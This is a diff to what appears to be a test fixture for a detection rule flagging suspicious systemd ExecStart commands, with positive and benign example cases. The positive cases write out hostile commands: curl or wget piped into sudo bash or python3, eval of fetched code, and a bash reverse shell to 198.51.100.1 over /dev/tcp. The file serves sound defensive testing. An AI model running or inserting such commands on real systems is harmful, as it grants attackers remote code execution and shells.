@@ -25,6 +25,10 @@ base {"event.category": "file", "event.action": "creation", "host.os.type": "lin
 + wget-sudo-bash {"tocsin.unit.exec_start": "/bin/sh -c 'wget -qO- http://198.51.100.1/a|sudo /bin/bash'"}
 + curl-python {"tocsin.unit.exec_start": "/bin/bash -c \"curl -fsSL https://198.51.100.1/ | python3 -\""}
 + substitution {"tocsin.unit.exec_start": "/bin/bash -c '$(curl -s http://198.51.100.1/a)'"}
++ backticks {"tocsin.unit.exec_start": "/bin/bash -c 'eval `wget -qO- http://198.51.100.1/a`'"}
++ hidden-in-local-bin {"tocsin.unit.exec_start": "/usr/local/bin/.x/y"}
++ and-tmp {"tocsin.unit.exec_start": "/bin/sh -c 'true && /tmp/x'"}
++ ruby-e {"tocsin.unit.exec_start": "/usr/bin/ruby3.1 -e 's=TCPSocket.open(1)'"}
 + process-substitution {"tocsin.unit.exec_start": "/bin/bash -c 'bash <(curl -s http://198.51.100.1/a)'"}
 + fetch-and-chmod {"tocsin.unit.exec_start": "/bin/sh -c 'wget http://198.51.100.1/a -O /opt/a; chmod +x /opt/a'"}
 + dev-tcp {"tocsin.unit.exec_start": "/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.1/443 0>&1'"}
@@ -64,6 +68,11 @@ base {"event.category": "file", "event.action": "creation", "host.os.type": "lin
 # commands that services really have
 - plain {"tocsin.unit.exec_start": "/usr/sbin/nginx -g 'daemon on;'"}
 - tmp-as-argument {"tocsin.unit.exec_start": "/usr/bin/find /tmp -mtime +7 -delete"}
+- script-with-tmp {"tocsin.unit.exec_start": "/usr/local/bin/backup.sh /tmp/backup"}
+- log-in-tmp {"tocsin.unit.exec_start": "/bin/sh -c 'tool >& /tmp/log'"}
+- puma {"tocsin.unit.exec_start": "/usr/bin/ruby /usr/bin/puma -e production --environment x"}
+- metadata {"tocsin.unit.exec_start": "/bin/sh -c 'echo ID=$(curl -s http://169.254.169.254/latest/meta-data/instance-id) > /run/id'"}
+- venv-in-local {"tocsin.unit.exec_start": "/usr/local/lib/app/.venv/bin/python -m app"}
 - tmp-as-option {"tocsin.unit.exec_start": "/usr/sbin/mysqld --tmpdir=/tmp/mysql --socket=/tmp/mysql.sock"}
 - rm-tmp {"tocsin.unit.exec_start": "-/bin/rm -rf /tmp/cache"}
 - tmpfiles {"tocsin.unit.exec_start": "systemd-tmpfiles --clean"}
